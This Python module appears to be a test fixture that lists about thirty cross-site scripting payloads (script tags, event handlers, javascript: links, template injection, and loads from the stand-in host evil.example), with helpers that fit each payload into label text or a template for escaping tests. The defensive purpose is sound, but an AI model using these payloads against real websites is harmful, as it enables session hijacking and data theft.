"""What a stranger types to make a page do something: none of it may be more than text."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>here</a>",
    "javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "</p></div><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</span></button><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`${alert(1)}`",
    "<!--><img src=x onerror=alert(1)>-->",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
)


def as_word(payload: str) -> str:
    """Return the payload without the signs that the text form of label words forbids."""
    return "".join("" if sign in ",:*\n" else sign for sign in payload)[:60]


def as_template(payload: str) -> str:
    """Return a template with the payload as its literal text, braces doubled."""
    literal = payload.replace("{", "{{").replace("}", "}}")
    return f"{{text}} {literal} {{mask}}."
